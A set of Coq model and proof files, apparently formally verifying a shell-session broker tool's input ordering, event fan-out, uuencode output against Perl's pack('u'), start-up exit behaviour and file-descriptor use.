  - intros H. destruct (IH H) as [x' [H1 H2]]. exists x'. split; [right; exact H1 | exact H2].
Qed.

Lemma cells_shape s c : In c (cells s) -> ~ In 10 (fst c) /\ ~ In 10 (snd c) /\ exists d, snd c = 45 :: 32 :: d.
Proof.
  unfold cells. intros [H|H].
  - subst c. cbn [fst snd]. repeat split.
    + unfold ListFuncName. vm_compute. intros H. repeat (destruct H as [H|H]; [discriminate|]). exact H.
    + unfold ListFuncDesc. vm_compute. intros H. repeat (destruct H as [H|H]; [discriminate|]). exact H.
    + eexists. reflexivity.
  - apply filter_map_In in H as [line [Hl Hd]].
    pose proof (split_on_pieces 10 s) as Hp. rewrite Forall_forall in Hp.
    exact (doc_cell_shape line c (Hp line Hl) Hd).
Qed.

Lemma fmt_row_shape w c : ~ In 10 (fst c) -> ~ In 10 (snd c) -> (exists d, snd c = 45 :: 32 :: d) ->
  ~ In 10 (fmt_row w c) /\ fmt_row w c <> [].
Proof.
  intros H1 H2 [d Hd]. unfold fmt_row. split.
  - intros H. apply in_app_or in H as [H|H]; [exact (H1 H)|]. apply in_app_or in H as [H|H]; [|exact (H2 H)].
    apply repeat_spec in H. discriminate.
  - rewrite Hd. destruct (fst c); [destruct (repeat 32 (w - rune_count [])); discriminate | discriminate].
Qed.

(** the table, split back into lines, is the formatted cells *)
Lemma split_table rs : Forall (fun r => ~ In 10 r) rs ->
  split_on 10 (concat (map (fun r => r ++ [10]) rs)) = rs ++ [[]].
Proof.
  induction 1 as [|r rs Hr Hrs IH]; [reflexivity|].
  cbn [map concat]. rewrite <- app_assoc. cbn [app]. rewrite split_on_app_sep by exact Hr. rewrite IH. reflexivity.
Qed.
Lemma filter_nonempty rs : Forall (fun r => r <> []) rs ->
  filter (fun l : bytes => negb (beq l [])) (rs ++ [[]]) = rs.
Proof.
  induction 1 as [|r rs Hr Hrs IH]; [reflexivity|].
  cbn [app filter]. destruct r; [contradiction|]. cbn. f_equal. exact IH.
Qed.

(** THE ROWS: the formatted cells (self row + one per TABDOC line), sorted, duplicates removed. *)
Theorem rows_spec s :
  rows s = compact (sort_bytes (map (fmt_row (col_width (cells s))) (cells s))).
Proof.
  unfold rows. set (cs := cells s). set (w := col_width cs).
  assert (Hs : forall c, In c cs -> ~ In 10 (fmt_row w c) /\ fmt_row w c <> []).
  { intros c Hc. destruct (cells_shape s c Hc) as [H1 [H2 H3]]. apply fmt_row_shape; assumption. }
  replace (concat (map (fun c => fmt_row w c ++ [10]) cs)) with (concat (map (fun r => r ++ [10]) (map (fmt_row w) cs)))
    by (rewrite map_map; reflexivity).
  rewrite split_table.
  - rewrite filter_nonempty; [reflexivity|]. rewrite Forall_forall. intros r Hr. apply in_map_iff in Hr as [c [<- Hc]]. apply Hs, Hc.
  - rewrite Forall_forall. intros r Hr. apply in_map_iff in Hr as [c [<- Hc]]. apply Hs, Hc.
Qed.

(** exactly one row per distinct formatted cell, in strictly increasing byte order *)
Corollary rows_members s r :
  In r (rows s) <-> exists c, In c (cells s) /\ r = fmt_row (col_width (cells s)) c.
Proof.
  rewrite rows_spec, In_compact_iff, In_sort, in_map_iff. split; intros [c [H1 H2]]; exists c; split; auto.
Qed.
Corollary rows_strictly_sorted s : StronglySorted lt_p (rows s).
Proof. rewrite rows_spec. apply compact_strict, sort_sorted. Qed.
(** order and number of the tagged lines do not matter: same cells (as a set), same width => same rows *)
Corollary rows_order_independent s1 s2 :
  col_width (cells s1) = col_width (cells s2) ->
  (forall c, In c (cells s1) <-> In c (cells s2)) -> rows s1 = rows s2.
Proof.
  intros Hw Hc. apply strict_sorted_unique; try apply rows_strictly_sorted.
  intros r. rewrite !rows_members, Hw. split; intros [c [H1 H2]]; exists c; split; auto; apply Hc; exact H1.
Qed.
