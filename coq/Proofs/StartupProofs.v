(** C20: start-up failures and exits. *)
From CRS Require Import Lib.Bytes Model.Startup.
Open Scope N_scope.

Theorem never_panics c f e : rmain c f e <> Panic.
Proof.
  unfold rmain. destruct (print_template c); [discriminate|].
  destruct (log_set c && log_bad f); [discriminate|].
  destruct (print_ctrl_i c); [destruct (negb (ctrl_i_set c) || ctrl_i_missing f); discriminate|].
  destruct (no_tty f); [discriminate|]. destruct (cache_bad f); [discriminate|].
  destruct (bad_listen f); [discriminate|]. destruct e; discriminate.
Qed.

Theorem terminal_restored c f e : forall code raw why, rmain c f e = Exit code raw why -> raw = false.
Proof.
  unfold rmain. intros code raw why.
  destruct (print_template c); [intros H; inversion H; reflexivity|].
  destruct (log_set c && log_bad f); [intros H; inversion H; reflexivity|].
  destruct (print_ctrl_i c); [destruct (negb (ctrl_i_set c) || ctrl_i_missing f); intros H; inversion H; reflexivity|].
  destruct (no_tty f); [intros H; inversion H; reflexivity|]. destruct (cache_bad f); [intros H; inversion H; reflexivity|].
  destruct (bad_listen f); [intros H; inversion H; reflexivity|]. destruct e; intros H; inversion H; reflexivity.
Qed.

Theorem failure_reported c f e cz : first_fault c f = Some cz ->
  exists code, rmain c f e = Exit code false (Some cz) /\ code <> 0.
Proof.
  unfold first_fault, rmain.
  destruct (print_template c); [discriminate|].
  destruct (log_set c && log_bad f); [intros H; inversion H; exists 1; split; [reflexivity | discriminate]|].
  destruct (print_ctrl_i c).
  - destruct (negb (ctrl_i_set c) || ctrl_i_missing f); [intros H; inversion H; exists 1; split; [reflexivity | discriminate] | discriminate].
  - destruct (no_tty f); [intros H; inversion H; exists 1; split; [reflexivity | discriminate]|].
    destruct (cache_bad f); [intros H; inversion H; exists 2; split; [reflexivity | discriminate]|].
    destruct (bad_listen f); [intros H; inversion H; exists 2; split; [reflexivity | discriminate] | discriminate].
Qed.

Theorem success_when_nothing_fails c f e : first_fault c f = None -> e <> RunError ->
  exists why, rmain c f e = Exit 0 false why.
Proof.
  unfold first_fault, rmain.
  destruct (print_template c); [intros _ _; eexists; reflexivity|].
  destruct (log_set c && log_bad f); [discriminate|].
  destruct (print_ctrl_i c).
  - destruct (negb (ctrl_i_set c) || ctrl_i_missing f); [discriminate | intros _ _; eexists; reflexivity].
  - destruct (no_tty f); [discriminate|]. destruct (cache_bad f); [discriminate|]. destruct (bad_listen f); [discriminate|].
    intros _ He. destruct e; try congruence; eexists; reflexivity.
Qed.

(** -print-default-template succeeds under every fault; -print-ctrl-i depends only on the log file and the Ctrl+I source. *)
Theorem template_flag_always_works c f e : print_template c = true -> rmain c f e = Exit 0 false None.
Proof. intros H. unfold rmain. rewrite H. reflexivity. Qed.

Theorem print_ctrl_i_independent c f f' e e' :
  print_template c = false -> print_ctrl_i c = true ->
  log_bad f = log_bad f' -> ctrl_i_missing f = ctrl_i_missing f' -> rmain c f e = rmain c f' e'.
Proof. intros H1 H2 H3 H4. unfold rmain. rewrite H1, H2, H3, H4. destruct (log_set c && log_bad f'); reflexivity. Qed.
