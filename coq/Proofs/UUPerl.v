(** C15: the encoder's output is Perl's pack("u", ...) — the independent
    bit-regrouping specification [perl_pack_u] of Model/UU.v. *)
From CRS Require Import Lib.Bytes Lib.Chunks Model.UU Proofs.UUBits Proofs.UUProofs.
Open Scope N_scope.

Notation tb := N.testbit.

(** The four 6-bit groups of three bytes, as bit lists (most significant first). *)
Definition grp0 (a : N) := [tb a 7; tb a 6; tb a 5; tb a 4; tb a 3; tb a 2].
Definition grp1 (a b : N) := [tb a 1; tb a 0; tb b 7; tb b 6; tb b 5; tb b 4].
Definition grp2 (b c : N) := [tb b 3; tb b 2; tb b 1; tb b 0; tb c 7; tb c 6].
Definition grp3 (c : N) := [tb c 5; tb c 4; tb c 3; tb c 2; tb c 1; tb c 0].
Definition pc (g : list bool) : N := perl_char (val_msb g 0).

(** finite sweeps over the bytes each group depends on *)
Lemma g0_sweep : all_below 256 (fun a => pc (grp0 a) =? uu_char (N.shiftr a 2)) = true.
Proof. vm_compute. reflexivity. Qed.
Lemma g1_sweep : all2 (fun a b => pc (grp1 a b) =? uu_char (N.lor (byte_shl a 4) (N.shiftr b 4))) = true.
Proof. vm_compute. reflexivity. Qed.
Lemma g2_sweep : all2 (fun b c => pc (grp2 b c) =? uu_char (N.lor (byte_shl b 2) (N.shiftr c 6))) = true.
Proof. vm_compute. reflexivity. Qed.
Lemma g3_sweep : all_below 256 (fun c => pc (grp3 c) =? uu_char (N.land c 63)) = true.
Proof. vm_compute. reflexivity. Qed.

Lemma g0 a : a < 256 -> pc (grp0 a) = uu_char (N.shiftr a 2).
Proof. intros H. apply N.eqb_eq. exact (all_below_spec 256 _ g0_sweep a H). Qed.
Lemma g1 a b : a < 256 -> b < 256 -> pc (grp1 a b) = uu_char (N.lor (byte_shl a 4) (N.shiftr b 4)).
Proof. intros Ha Hb. apply N.eqb_eq. exact (all2_spec _ g1_sweep a b Ha Hb). Qed.
Lemma g2 b c : b < 256 -> c < 256 -> pc (grp2 b c) = uu_char (N.lor (byte_shl b 2) (N.shiftr c 6)).
Proof. intros Hb Hc. apply N.eqb_eq. exact (all2_spec _ g2_sweep b c Hb Hc). Qed.
Lemma g3 c : c < 256 -> pc (grp3 c) = uu_char (N.land c 63).
Proof. intros H. apply N.eqb_eq. exact (all_below_spec 256 _ g3_sweep c H). Qed.

(** One chunk of 1..3 bytes: the bits of its bytes, zero-padded to 24, in
    groups of six, give the characters [enc3] computes. *)
Definition bits_of (l : bytes) : list bool := concat (map (bits_msb 8) l).

Lemma zero_bits i : tb 0 i = false.  Proof. apply N.bits_0. Qed.

Lemma chunk3 a b c : a < 256 -> b < 256 -> c < 256 ->
  map pc (chunks 6 (bits_of [a; b; c])) = enc3 [a; b; c].
Proof.
  intros Ha Hb Hc.
  change (chunks 6 (bits_of [a; b; c])) with [grp0 a; grp1 a b; grp2 b c; grp3 c].
  cbn [map]. rewrite g0, g1, g2, g3 by assumption. reflexivity.
Qed.
Lemma chunk2 a b : a < 256 -> b < 256 ->
  map pc (chunks 6 (bits_of [a; b] ++ repeat false 8)) = enc3 [a; b].
Proof.
  intros Ha Hb.
  change (chunks 6 (bits_of [a; b] ++ repeat false 8))
    with [grp0 a; grp1 a b; [tb b 3; tb b 2; tb b 1; tb b 0; false; false]; [false; false; false; false; false; false]].
  cbn [map]. rewrite g0, g1 by assumption.
  replace (pc [tb b 3; tb b 2; tb b 1; tb b 0; false; false]) with (pc (grp2 b 0)) by (unfold grp2; rewrite !zero_bits; reflexivity).
  replace (pc [false; false; false; false; false; false]) with (pc (grp3 0)) by reflexivity.
  rewrite g2, g3 by (assumption || reflexivity). reflexivity.
Qed.
Lemma chunk1 a : a < 256 ->
  map pc (chunks 6 (bits_of [a] ++ repeat false 16)) = enc3 [a].
Proof.
  intros Ha.
  change (chunks 6 (bits_of [a] ++ repeat false 16))
    with [grp0 a; [tb a 1; tb a 0; false; false; false; false]; [false; false; false; false; false; false]; [false; false; false; false; false; false]].
  cbn [map]. rewrite g0 by assumption.
  replace (pc [tb a 1; tb a 0; false; false; false; false]) with (pc (grp1 a 0)) by (unfold grp1; rewrite !zero_bits; reflexivity).
  replace (pc [false; false; false; false; false; false]) with (pc (grp2 0 0)) by reflexivity.
  rewrite g1, g2 by (assumption || reflexivity). reflexivity.
Qed.

(** Lifting to a whole line: by induction on the bytes, three at a time. *)
Lemma bits_of_app x y : bits_of (x ++ y) = bits_of x ++ bits_of y.
Proof. unfold bits_of. rewrite map_app, concat_app. reflexivity. Qed.
Lemma bits_of_length l : length (bits_of l) = (8 * length l)%nat.
Proof. induction l as [|x l IH]; [reflexivity|]. unfold bits_of in *. cbn [map concat]. rewrite app_length, IH. cbn. lia. Qed.

Lemma pad_front (f24 rest : list bool) : length f24 = 24%nat -> pad_to 24 (f24 ++ rest) = f24 ++ pad_to 24 rest.
Proof.
  intros H. unfold pad_to. rewrite app_length, H.
  replace (24 + length rest)%nat with (length rest + 1 * 24)%nat by lia.
  rewrite Nat.mod_add by lia.
  destruct (length rest mod 24 =? 0)%nat; [reflexivity | rewrite <- app_assoc; reflexivity].
Qed.

Lemma chunks6_front (g0' g1' g2' g3' : list bool) rest :
  length g0' = 6%nat -> length g1' = 6%nat -> length g2' = 6%nat -> length g3' = 6%nat ->
  chunks 6 (g0' ++ g1' ++ g2' ++ g3' ++ rest) = g0' :: g1' :: g2' :: g3' :: chunks 6 rest.
Proof. intros. rewrite !chunks_app_full by (assumption || lia). reflexivity. Qed.

Lemma line_groups_n n : forall l, (length l <= n)%nat -> wf_bytes l ->
  map pc (chunks 6 (pad_to 24 (bits_of l))) = concat (map enc3 (chunks 3 l)).
Proof.
  induction n as [|n IH]; intros l Hl Hwf.
  - destruct l; [reflexivity | cbn in Hl; lia].
  - destruct l as [|a [|b [|c r]]].
    + reflexivity.
    + inversion Hwf as [|? ? Ha _]; subst. unfold wf_byte in Ha.
      change (pad_to 24 (bits_of [a])) with (bits_of [a] ++ repeat false 16).
      rewrite chunk1 by exact Ha. reflexivity.
    + inversion Hwf as [|? ? Ha Hr]; subst. inversion Hr as [|? ? Hb _]; subst. unfold wf_byte in *.
      change (pad_to 24 (bits_of [a; b])) with (bits_of [a; b] ++ repeat false 8).
      rewrite chunk2 by assumption. reflexivity.
    + inversion Hwf as [|? ? Ha Hr]; subst. inversion Hr as [|? ? Hb Hr2]; subst. inversion Hr2 as [|? ? Hc Hr3]; subst.
      unfold wf_byte in *.
      change (a :: b :: c :: r) with ([a; b; c] ++ r).
      rewrite bits_of_app, pad_front by reflexivity.
      change (bits_of [a; b; c]) with (grp0 a ++ grp1 a b ++ grp2 b c ++ grp3 c).
      rewrite <- !app_assoc. rewrite chunks6_front by reflexivity.
      rewrite (chunks_app_full 3 [a; b; c] r) by (reflexivity || lia).
      cbn [map concat]. rewrite IH by (cbn in Hl; lia || exact Hr3).
      change [pc (grp0 a); pc (grp1 a b); pc (grp2 b c); pc (grp3 c)] with (map pc [grp0 a; grp1 a b; grp2 b c; grp3 c]).
      rewrite g0, g1, g2, g3 by assumption. reflexivity.
Qed.

Lemma enc_line_is_perl_line l : wf_bytes l -> enc_line l = perl_line l.
Proof.
  intros H. unfold enc_line, perl_line, uuOffset, decChunkLen. f_equal. f_equal.
  symmetry. apply (line_groups_n (length l)); [apply le_n | exact H].
Qed.

(** For every byte string the encoder's output is byte-identical to the
    specification of Perl's pack("u", ...). *)
Theorem encode_is_perl_pack_u src : wf_bytes src -> encode src = perl_pack_u src.
Proof.
  intros H. unfold encode, perl_pack_u, lineLen. f_equal.
  apply map_ext_in. intros l Hl. apply enc_line_is_perl_line.
  pose proof (Forall_wf_chunks 45 src ltac:(lia) H) as Hw. rewrite Forall_forall in Hw. apply Hw, Hl.
Qed.
