(** C02, operator side: lines reach the broker in the order entered, each once, intact. *)
From CRS Require Import Lib.Bytes Model.OpInput.

Lemma typed_of_app a b : typed_of (a ++ b) = typed_of a ++ typed_of b.
Proof. unfold typed_of. apply flat_map_app. Qed.

(** conservation, in order: what ReadLine has returned = what the broker took ++ what waits in the channel ++ what the reader holds *)
Definition IInv (s : ist) : Prop :=
  entered s = typed_of (taken s) ++ typed_of (chan s) ++ held_list (held s).

Lemma IInv_init lines : IInv (iinit lines).
Proof. reflexivity. Qed.

Lemma IInv_step cap s e : IInv s -> IInv (inext cap s e).
Proof.
  unfold IInv. intros H. destruct e; cbn [inext].
  - case_eq (held s); [intros l Eh; exact H|]. intros Eh. case_eq (to_type s); [intros _; exact H|]. intros l r _.
    cbn. rewrite H, Eh. cbn. rewrite !app_nil_r, <- app_assoc. reflexivity.
  - case_eq (held s); [|intros _; exact H]. intros l Eh.
    destruct (Nat.ltb (length (chan s)) cap); [|exact H].
    cbn. rewrite H, Eh, typed_of_app. cbn. rewrite app_nil_r. reflexivity.
  - cbn. exact H.
  - destruct (nth_error (inserts s) k); [|exact H]. destruct (Nat.ltb (length (chan s)) cap); [|exact H].
    cbn. rewrite H, typed_of_app. cbn. rewrite app_nil_r. reflexivity.
  - case_eq (chan s); [intros _; exact H|]. intros x r Ec.
    cbn. rewrite H, Ec, typed_of_app. cbn. destruct x; cbn; rewrite <- ?app_assoc; reflexivity.
Qed.

Lemma IInv_run cap lines es : IInv (irun cap lines es).
Proof.
  unfold irun. generalize (IInv_init lines). generalize (iinit lines).
  induction es as [|e r IH]; intros s H; [exact H|]. cbn. apply IH, IInv_step, H.
Qed.

(** The lines the broker has taken are, in order, a prefix of the lines entered:
    none lost before a later one is taken, none duplicated, none reordered,
    whatever the relative speeds and however full the channel. *)
Theorem taken_is_prefix_of_entered cap lines es :
  let s := irun cap lines es in exists rest, entered s = typed_of (taken s) ++ rest.
Proof. cbn. eexists. exact (IInv_run cap lines es). Qed.

(** and the lines entered are a prefix of the lines the operator types *)
Lemma entered_prefix_step cap lines s e : lines = entered s ++ to_type s -> lines = entered (inext cap s e) ++ to_type (inext cap s e).
Proof.
  intros H. destruct e; cbn [inext]; try exact H.
  - case_eq (held s); [intros l _; exact H|]. intros _. case_eq (to_type s); [intros _; exact H|]. intros l t Et.
    cbn. rewrite H, Et, <- app_assoc. reflexivity.
  - destruct (held s); [|exact H]. destruct (Nat.ltb (length (chan s)) cap); exact H.
  - destruct (nth_error (inserts s) k); [|exact H]. destruct (Nat.ltb (length (chan s)) cap); exact H.
  - destruct (chan s); exact H.
Qed.
Lemma entered_prefix cap lines es : let s := irun cap lines es in lines = entered s ++ to_type s.
Proof.
  cbn. unfold irun. assert (H0 : lines = entered (iinit lines) ++ to_type (iinit lines)) by reflexivity.
  revert H0. generalize (iinit lines). induction es as [|e r IH]; intros s H; [exact H|].
  cbn. apply IH, entered_prefix_step, H.
Qed.

(** A Ctrl+I source reaches the channel as ONE item, whole. *)
Definition whole_inserts (l : list item) (srcs : list bytes) : Prop :=
  forall x, In (Inserted x) l -> In x srcs.
Lemma inserts_whole cap lines es :
  let s := irun cap lines es in
  let pressed := flat_map (fun e => match e with ICtrlI src => [src] | _ => [] end) es in
  whole_inserts (taken s ++ chan s) pressed /\ (forall x, In x (inserts s) -> In x pressed).
Proof.
  cbn. unfold irun.
  assert (G : forall es s0 acc, (whole_inserts (taken s0 ++ chan s0) acc /\ (forall x, In x (inserts s0) -> In x acc)) ->
              let s := fold_left (inext cap) es s0 in
              let pr := acc ++ flat_map (fun e => match e with ICtrlI src => [src] | _ => [] end) es in
              whole_inserts (taken s ++ chan s) pr /\ (forall x, In x (inserts s) -> In x pr)).
  { induction es0 as [|e r IH]; intros s0 acc [H1 H2]; cbn.
    - rewrite app_nil_r. split; assumption.
    - assert (K : let a' := acc ++ (match e with ICtrlI src => [src] | _ => [] end) in
                  whole_inserts (taken (inext cap s0 e) ++ chan (inext cap s0 e)) a' /\ (forall x, In x (inserts (inext cap s0 e)) -> In x a')).
      { destruct e; cbn [inext]; rewrite ?app_nil_r.
        - destruct (held s0); [split; assumption|]. destruct (to_type s0); split; assumption.
        - destruct (held s0); [|split; assumption]. destruct (Nat.ltb (length (chan s0)) cap); [|split; assumption].
          cbn. split; [|assumption]. intros x Hx. rewrite app_assoc in Hx. apply in_app_or in Hx as [Hx|[Hx|[]]]; [apply H1; exact Hx | discriminate].
        - cbn. split.
          + intros x Hx. apply in_or_app. left. apply H1. exact Hx.
          + intros x Hx. apply in_app_or in Hx as [Hx|[Hx|[]]]; apply in_or_app; [left; apply H2; exact Hx | right; left; exact Hx].
        - destruct (nth_error (inserts s0) k) as [src|] eqn:En; [|split; assumption].
          destruct (Nat.ltb (length (chan s0)) cap); [|split; assumption]. cbn. split.
          + intros x Hx. rewrite app_assoc in Hx. apply in_app_or in Hx as [Hx|[Hx|[]]]; [apply H1; exact Hx|].
            inversion Hx; subst. apply H2. eapply nth_error_In; exact En.
          + intros x Hx. apply H2. clear - Hx. revert k Hx. induction (inserts s0) as [|y l IHl]; intros [|k] Hx; cbn in *; try contradiction; auto.
            destruct Hx as [Hx|Hx]; [left; exact Hx | right; eapply IHl; exact Hx].
        - destruct (chan s0) as [|y c] eqn:Ec; [rewrite Ec; split; assumption|]. cbn. split; [|assumption].
          intros x Hx. apply H1. rewrite <- app_assoc in Hx. exact Hx. }
      cbn in K. specialize (IH (inext cap s0 e) _ K). cbn in IH. rewrite <- app_assoc in IH. exact IH. }
  specialize (G es (iinit lines) []). cbn in G. apply G. split; [intros x [] | intros x []].
Qed.

(** ** The variant that does not wait loses the order (seeded change C02-p2) *)
Definition reorder_run : list iev2 :=
  [Plain IRead; Plain ISend; Plain IRead; Park; Plain IRead; Park; Plain ITake; ParkedSend 1; Plain ITake; ParkedSend 0; Plain ITake].
Theorem parking_reader_reorders :
  let s := fold_left (inext2 1) reorder_run {| s2 := iinit [[1]; [2]; [3]]; parked := [] |} in
  typed_of (taken (s2 s)) = [[1]; [3]; [2]].
Proof. reflexivity. Qed.
