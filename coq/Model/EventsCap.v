(** C04: the event fan-out with listeners of BOUNDED capacity (Go channels of the
    listener's choosing) which take their events at their own pace.

    processEvents sends with a plain blocking send while holding evMu: when a
    registered listener's channel is full the pump waits - nothing is skipped.
    [cstep] is that behaviour; [cstep_drop] is a pump which sends "best effort"
    (select with default), refuted in Proofs/EventsCapProofs.

    [c_done] is the sequence of events the pump has taken off the event channel so
    far; [l_from] is how many it had taken when the listener registered. *)
From Coq Require Import List NArith Bool.
Import ListNotations.
Open Scope N_scope.

Inductive cop :=
| CEmit (e : N)
| CProc                  (* the pump hands the oldest event to every registered listener - if every channel has room *)
| CAdd (l : N) (cap : nat)
| CRemove (l : N)
| CTake (l : N).         (* listener l receives the oldest event waiting in its channel *)

Record lis := { l_id : N; l_cap : nat; l_from : nat; l_box : list N; l_got : list N }.
Record cst := { c_q : list N; c_done : list N; c_ls : list lis }.

Definition cinit : cst := {| c_q := []; c_done := []; c_ls := [] |}.

Definition has_room (l : lis) : bool := Nat.ltb (length (l_box l)) (l_cap l).
Definition put (e : N) (l : lis) : lis :=
  {| l_id := l_id l; l_cap := l_cap l; l_from := l_from l; l_box := l_box l ++ [e]; l_got := l_got l |}.
Definition take (l : lis) : lis :=
  match l_box l with
  | [] => l
  | e :: r => {| l_id := l_id l; l_cap := l_cap l; l_from := l_from l; l_box := r; l_got := l_got l ++ [e] |}
  end.
Definition is_id (k : N) (l : lis) : bool := l_id l =? k.

Definition cstep (s : cst) (o : cop) : cst :=
  match o with
  | CEmit e => {| c_q := c_q s ++ [e]; c_done := c_done s; c_ls := c_ls s |}
  | CProc =>
      match c_q s with
      | [] => s
      | e :: r => if forallb has_room (c_ls s)
                  then {| c_q := r; c_done := c_done s ++ [e]; c_ls := map (put e) (c_ls s) |}
                  else s                                  (* some channel is full: the pump waits *)
      end
  | CAdd k cap => if existsb (is_id k) (c_ls s) then s
                  else {| c_q := c_q s; c_done := c_done s;
                          c_ls := c_ls s ++ [{| l_id := k; l_cap := cap; l_from := length (c_done s); l_box := []; l_got := [] |}] |}
  | CRemove k => {| c_q := c_q s; c_done := c_done s; c_ls := filter (fun l => negb (is_id k l)) (c_ls s) |}
  | CTake k => {| c_q := c_q s; c_done := c_done s; c_ls := map (fun l => if is_id k l then take l else l) (c_ls s) |}
  end.
Definition crun (s : cst) (ops : list cop) : cst := fold_left cstep ops s.

(** the pump which skips a listener whose channel is full *)
Definition cstep_drop (s : cst) (o : cop) : cst :=
  match o with
  | CProc =>
      match c_q s with
      | [] => s
      | e :: r => {| c_q := r; c_done := c_done s ++ [e]; c_ls := map (fun l => if has_room l then put e l else l) (c_ls s) |}
      end
  | _ => cstep s o
  end.

(** a listener has been handed - received or waiting in its channel - exactly the events taken off the event channel since it registered *)
Definition complete (done : list N) (l : lis) : Prop := l_got l ++ l_box l = skipn (l_from l) done /\ (l_from l <= length done)%nat.

(** The listener plans the harness runs, with the listener's channel capacity: [n] shells unheard, listener [k]
    registers with a channel of [cap], one shell lives and dies, the listener reads what it was sent, leaves. *)
Definition cshell_ops : list cop := [CEmit 0; CProc; CEmit 1; CProc].
Definition got_of_c (k : N) (s : cst) : list N := concat (map l_got (filter (is_id k) (c_ls s))).
Fixpoint cplan_run (k : N) (plan : list (N * nat)) (s : cst) : list (list N) :=
  match plan with
  | [] => []
  | (n, cap) :: r =>
      let s1 := crun s (concat (repeat cshell_ops (N.to_nat n)) ++ [CAdd k cap] ++ cshell_ops ++ [CTake k; CProc; CTake k; CProc; CTake k]) in
      got_of_c k s1 :: cplan_run (k + 1) r (cstep s1 (CRemove k))
  end.
Definition cplan_windows (plan : list (N * nat)) : list (list N) := cplan_run 0 plan cinit.
