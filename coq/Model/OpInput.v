(** Model of the operator's side of the input path, /repo/lib/opshell
    (Shell.Do's line reader, Shell.insert / ChanWriter) up to the broker taking
    lines from the line channel: ReadLine returns the next line the operator
    enters; the reader sends it on the line channel (capacity [cap], the
    program uses 1024) and waits while the channel is full; Ctrl+I / Tab starts
    a goroutine which sends the whole generated source as ONE line; the broker
    takes lines from the head of the channel whenever a shell is there.  A run
    is any sequence of events; an event that is not enabled changes nothing. *)
From CRS Require Import Lib.Bytes.

Inductive item := Typed (l : bytes) | Inserted (src : bytes).

Record ist := {
  to_type : list bytes;        (* lines the operator will still enter *)
  held : option bytes;         (* the line ReadLine returned, on its way into the channel *)
  inserts : list bytes;        (* sources of Ctrl+I goroutines which have not delivered yet *)
  chan : list item;            (* the line channel *)
  taken : list item;           (* what the broker has taken, in order *)
  entered : list bytes         (* ghost: the lines ReadLine has returned so far, in order *)
}.
Definition iinit (lines : list bytes) : ist :=
  {| to_type := lines; held := None; inserts := []; chan := []; taken := []; entered := [] |}.

Inductive iev :=
| IRead                        (* ReadLine returns the next entered line (the reader is not holding one) *)
| ISend                        (* the reader's send succeeds: there is room *)
| ICtrlI (src : bytes)         (* the operator presses Ctrl+I / Tab: go s.insert() *)
| IInsSend (k : nat)           (* the k-th waiting insert's send succeeds *)
| ITake.                       (* the broker takes the line at the head of the channel *)

Fixpoint remove_nth {A} (k : nat) (l : list A) : list A :=
  match l, k with
  | [], _ => []
  | _ :: r, O => r
  | x :: r, S j => x :: remove_nth j r
  end.

Definition inext (cap : nat) (s : ist) (e : iev) : ist :=
  match e with
  | IRead =>
      match held s, to_type s with
      | None, l :: r => {| to_type := r; held := Some l; inserts := inserts s; chan := chan s; taken := taken s; entered := entered s ++ [l] |}
      | _, _ => s
      end
  | ISend =>
      match held s with
      | Some l => if Nat.ltb (length (chan s)) cap
                  then {| to_type := to_type s; held := None; inserts := inserts s; chan := chan s ++ [Typed l]; taken := taken s; entered := entered s |}
                  else s
      | None => s
      end
  | ICtrlI src => {| to_type := to_type s; held := held s; inserts := inserts s ++ [src]; chan := chan s; taken := taken s; entered := entered s |}
  | IInsSend k =>
      match nth_error (inserts s) k with
      | Some src => if Nat.ltb (length (chan s)) cap
                    then {| to_type := to_type s; held := held s; inserts := remove_nth k (inserts s); chan := chan s ++ [Inserted src];
                            taken := taken s; entered := entered s |}
                    else s
      | None => s
      end
  | ITake =>
      match chan s with
      | x :: r => {| to_type := to_type s; held := held s; inserts := inserts s; chan := r; taken := taken s ++ [x]; entered := entered s |}
      | [] => s
      end
  end.
Definition irun (cap : nat) (lines : list bytes) (es : list iev) : ist := fold_left (inext cap) es (iinit lines).

(** the typed lines among a list of items, in order *)
Definition typed_of (l : list item) : list bytes := flat_map (fun x => match x with Typed t => [t] | Inserted _ => [] end) l.
Definition held_list (h : option bytes) : list bytes := match h with Some l => [l] | None => [] end.

(** The variant which tried not to wait (seeded change C02-p2): when the channel
    is full the reader hands the line to a goroutine of its own and goes on
    reading; those goroutines deliver in any order. *)
Record ist2 := { s2 : ist; parked : list bytes }.
Inductive iev2 := Plain (e : iev) | Park | ParkedSend (k : nat).
Definition inext2 (cap : nat) (s : ist2) (e : iev2) : ist2 :=
  match e with
  | Plain e' => {| s2 := inext cap (s2 s) e'; parked := parked s |}
  | Park => match held (s2 s) with
            | Some l => if Nat.ltb (length (chan (s2 s))) cap then s
                        else {| s2 := {| to_type := to_type (s2 s); held := None; inserts := inserts (s2 s); chan := chan (s2 s); taken := taken (s2 s);
                                        entered := entered (s2 s) |}; parked := parked s ++ [l] |}
            | None => s
            end
  | ParkedSend k =>
      match nth_error (parked s) k with
      | Some l => if Nat.ltb (length (chan (s2 s))) cap
                  then {| s2 := {| to_type := to_type (s2 s); held := held (s2 s); inserts := inserts (s2 s); chan := chan (s2 s) ++ [Typed l];
                                  taken := taken (s2 s); entered := entered (s2 s) |}; parked := remove_nth k (parked s) |}
                  else s
      | None => s
      end
  end.
