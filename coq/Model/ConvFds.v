(** C17: file descriptors held while a directory is converted
    (lib/shellfuncsfile, fromDirectory): every eligible file is opened, read,
    converted and CLOSED inside a function literal of its own (the deferred Close
    runs when that literal returns, i.e. before the next file is opened).
    [dir_trace n] is the sequence of opens and closes for n eligible files;
    [leaky_trace n] is what `defer f.Close()` directly in the loop body would do
    (all closes run when fromDirectory returns). *)
From Coq Require Import List Arith.
Import ListNotations.

Inductive fev := FOpen | FClose.

Definition per_file : list fev := [FOpen; FClose].
Definition dir_trace (n : nat) : list fev := concat (repeat per_file n).
Definition leaky_trace (n : nat) : list fev := repeat FOpen n ++ repeat FClose n.

(** descriptors open now, and the most that were ever open at once *)
Fixpoint peak_from (cur top : nat) (t : list fev) : nat :=
  match t with
  | [] => top
  | FOpen :: r => peak_from (S cur) (Nat.max top (S cur)) r
  | FClose :: r => peak_from (pred cur) top r
  end.
Definition peak (t : list fev) : nat := peak_from 0 0 t.

(** A conversion succeeds as far as descriptors go when its peak, on top of what the process holds already, stays below the limit. *)
Definition fits (held limit : nat) (t : list fev) : bool := Nat.ltb (held + peak t) limit.
