(** C04: the event pump of internal/iobroker/events.go (processEvents,
    AddEventListener, RemoveEventListener).

    The broker puts connected / disconnected events on a buffered channel
    (capacity EVChanLen); one goroutine takes them off, one at a time, and hands
    each to every listener registered at that moment (the listeners are the keys
    of a Go map: a set).  Events are numbers here (0 connected, 1 disconnected).

